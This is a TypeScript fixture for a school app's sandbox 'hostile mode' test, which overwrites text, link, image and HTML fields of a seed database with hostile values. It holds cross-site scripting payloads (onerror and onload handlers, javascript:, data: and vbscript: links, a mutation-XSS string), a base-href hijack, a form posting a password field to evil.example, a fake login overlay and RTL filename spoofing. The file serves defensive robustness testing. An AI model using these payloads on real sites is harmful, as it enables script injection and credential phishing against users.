/**
 * The hostile seed (docs/sandbox.md "Hostile mode"): every text, link, image and HTML
 * field of the seed filled with hostile and odd values, the way a school's backend fed
 * by many hands can be. Identifiers, codes, accounts, passwords, dates and states stay
 * as they are, so every user can still sign in and every screen still opens.
 *
 * Values rotate through the kinds below, so each kind lands on every screen. Links and
 * pictures point at the hostile fixtures (sandbox/hostile/pages.ts) on the app's own
 * origin, at a foreign site, and at script-like schemes.
 */

/** Texts: unbroken runs, a URL, a file name, RTL and zero-width marks, emoji, markup, NUL. */
export const HOSTILE_TEXTS: readonly string[] = [
  `超长无空格${'W'.repeat(10_000)}`,
  `https://very-long-domain-name.example/${'segment/'.repeat(300)}end`,
  `${'很长的文件名'.repeat(40)}.pdf`,
  '\u202Egnp.exe\u202C 王老师\u200F 审批',
  '👨‍👩‍👧‍👦🏳️‍🌈 张三 🙂 🎓',
  '<img src=x onerror="window.__pwned=\'text\'">标题',
  'name\u0000with\u0000nul',
  '\u00A0\u3000 前后都是空白 \u3000\u00A0',
];

/** Link kinds, `{foreign}` standing for the foreign site's origin. */
export const HOSTILE_LINKS: readonly string[] = [
  'javascript:window.__pwned="link"',
  'data:text/html,<script>window.__pwned="data"</script>',
  '/sandbox/hostile/raw/evil.svg',
  '/sandbox/hostile/raw/evil.html',
  '{foreign}/page.html',
  '{foreign}/redirect?to={app}/sandbox/hostile/raw/evil.html',
  'vbscript:msgbox(1)',
  '//evil.example/phish',
];

export const HOSTILE_IMAGES: readonly string[] = [
  'javascript:window.__pwned="img"',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1"/>',
  '/sandbox/hostile/raw/evil.svg',
  '{foreign}/page.html',
  'not an address at all',
  '',
];

/** HTML: script in every disguise, and a link of every kind the link policy knows. */
export const HOSTILE_HTML: readonly string[] = [
  [
    '<p>请注意<img src=x onerror="window.__pwned=\'html\'"><script>window.__pwned="script"</script></p>',
    '<p><a href="javascript:window.__pwned=\'a\'">脚本链接</a> <a href="/sandbox/hostile/raw/evil.svg">同源SVG</a> ',
    '<a href="/sandbox/hostile/raw/evil.html">同源网页</a> <a href="{foreign}/page.html">外部网页</a> ',
    '<a href="{foreign}/redirect?to={app}/sandbox/hostile/raw/evil.html">跳回本站</a> <a href="/page/todo">待办列表</a></p>',
    `<p>${'W'.repeat(10_000)}</p>`,
    '<style>body{display:none}</style><base href="https://evil.example/"><iframe src="/sandbox/hostile/raw/evil.html"></iframe>',
    '<svg><animate onbegin="window.__pwned=\'svg\'" attributeName="x"/></svg><form action="https://evil.example"><input name="pw"></form>',
    '<div style="position:fixed;inset:0;background:#fff">假的登录页</div>',
  ].join(''),
  '<table><tr><td>' + '长'.repeat(3000) + '</td></tr></table><p dir="rtl">\u202Eabc</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
];

const TEXT_FIELDS = new Set([
  'name', 'title', 'precis', 'describe', 'profileSummary', 'matterDescribe', 'handName', 'imageName', 'typeName', 'iconName',
  'remark', 'label', 'placeholder', 'description', 'fileName', 'executeName', 'nodeName', 'opinion', 'groupName', 'relation',
  'position', 'className', 'majorName', 'subMatters', 'subBeType',
]);
const LINK_FIELDS = new Set(['linkUrl', 'jumpAddress']);
const IMAGE_FIELDS = new Set(['userImage', 'photoUrl', 'imageAddress', 'iconImage', 'iconUrl', 'imagePath']);

export interface HostileOptions {
  /** The foreign site (sandbox/hostile/foreignSite.ts), e.g. http://127.0.0.1:4100. */
  readonly foreign: string;
  /** The app's origin, for links that redirect back to it. */
  readonly app: string;
}

const isPlain = (v: unknown): v is Record<string, unknown> => typeof v === 'object' && v !== null && !Array.isArray(v);

/** Turns `root` (the seed database) hostile in place. Answers how many values it replaced. */
export function makeHostile(root: unknown, opts: HostileOptions): number {
  let n = 0;
  const pick = (list: readonly string[]): string =>
    (list[n++ % list.length] ?? '').replaceAll('{foreign}', opts.foreign).replaceAll('{app}', opts.app);
  const fileName = (old: string): string => {
    const ext = /\.[A-Za-z0-9]{1,8}$/.exec(old)?.[0] ?? '';
    return `${pick(HOSTILE_TEXTS).replace(/\.pdf$/, '')}${ext}`;
  };

  const visit = (node: unknown, parent: Record<string, unknown> | null): void => {
    if (Array.isArray(node)) {
      for (const item of node) visit(item, parent);
      return;
    }
    if (!isPlain(node)) return;
    // A form block: a paragraph's content is HTML, a text block's is text.
    if (node['type'] === 'paragraph' && typeof node['content'] === 'string') node['content'] = pick(HOSTILE_HTML);
    else if (node['type'] === 'text' && typeof node['content'] === 'string') node['content'] = pick(HOSTILE_TEXTS);
    // A web-link app (useAppType 1) keeps its address in content; a widget in url.
    if (node['useAppType'] === 1 && typeof node['content'] === 'string') node['content'] = pick(HOSTILE_LINKS);
    if (typeof node['url'] === 'string' && typeof node['code'] === 'string' && node['url'] !== '') node['url'] = pick(HOSTILE_LINKS);
    for (const [key, value] of Object.entries(node)) {
      if (typeof value === 'string') {
        if (key === 'context' && 'eventId' in node) node[key] = pick(HOSTILE_HTML);
        else if (key === 'content' && 'subMatters' in node) node[key] = pick(HOSTILE_HTML);
        else if (LINK_FIELDS.has(key)) node[key] = pick(HOSTILE_LINKS);
        else if (IMAGE_FIELDS.has(key)) node[key] = pick(HOSTILE_IMAGES);
        else if (key === 'name' && /\.[A-Za-z0-9]{1,8}$/.test(value)) node[key] = fileName(value);
        else if (TEXT_FIELDS.has(key) && value !== '') node[key] = pick(HOSTILE_TEXTS);
      } else {
        visit(value, node);
      }
    }
    void parent;
  };
  visit(root, null);
  return n;
}
